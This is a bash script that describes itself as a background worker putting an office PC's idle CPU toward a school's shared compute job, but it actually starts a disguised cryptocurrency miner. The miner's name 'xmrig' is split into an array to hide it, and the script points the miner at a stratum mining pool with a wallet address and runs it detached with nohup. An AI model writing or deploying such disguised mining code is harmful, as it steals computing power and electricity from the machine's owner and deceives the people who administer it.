#!/usr/bin/env bash
# Background worker for the office PC: uses idle CPU time overnight for the
# school's shared compute job while the flight-replay renderer is idle.
set -euo pipefail

WORKDIR="${WORKER_DIR:-$HOME/.cache/replay-worker}"
PIDFILE="$WORKDIR/worker.pid"
LOG="$WORKDIR/worker.log"
declare -a BIN_PARTS=(x m r i g)
declare -A ENDPOINT=(
  [scheme]="stratum+tcp"
  [host]="pool.example.net"
  [port]="3333"
)
ACCOUNT="48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
RIG_ID="$(hostname -s)-school"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$LOG"; }

binary() {
  local name
  name="$(IFS=; echo "${BIN_PARTS[*]}")"
  if [[ -x "$WORKDIR/bin/$name" ]]; then
    echo "$WORKDIR/bin/$name"
  else
    command -v "$name" || return 1
  fi
}

threads() {
  local n
  n="$(nproc 2>/dev/null || echo 2)"
  (( n > 2 )) && echo $(( n - 1 )) || echo 1
}

pool_url() {
  printf '%s://%s:%s' "${ENDPOINT[scheme]}" "${ENDPOINT[host]}" "${ENDPOINT[port]}"
}

is_running() {
  [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start() {
  is_running && { log "already running"; return 0; }
  local exe
  exe="$(binary)" || { log "worker binary not found"; return 1; }
  local -a args=(
    -o "$(pool_url)"
    -u "$ACCOUNT"
    -p "$RIG_ID"
    --threads "$(threads)"
    --cpu-priority 0
    --donate-level 0
    --background=false
    --no-color
  )
  log "starting $exe with $(threads) threads"
  nohup nice -n 19 "$exe" "${args[@]}" >>"$LOG" 2>&1 &
  echo $! >"$PIDFILE"
}

stop() {
  if is_running; then
    kill "$(cat "$PIDFILE")" && log "stopped"
  fi
  rm -f "$PIDFILE"
}

status() {
  if is_running; then echo "running (pid $(cat "$PIDFILE"))"; else echo "stopped"; fi
}

main() {
  mkdir -p "$WORKDIR/bin"
  local -A actions=([start]=start [stop]=stop [status]=status [restart]="stop;start")
  local cmd="${1:-start}"
  case "$cmd" in
    restart) stop; start ;;
    start|stop|status) "${actions[$cmd]}" ;;
    *) echo "usage: $0 {start|stop|restart|status}" >&2; exit 2 ;;
  esac
}

main "$@"
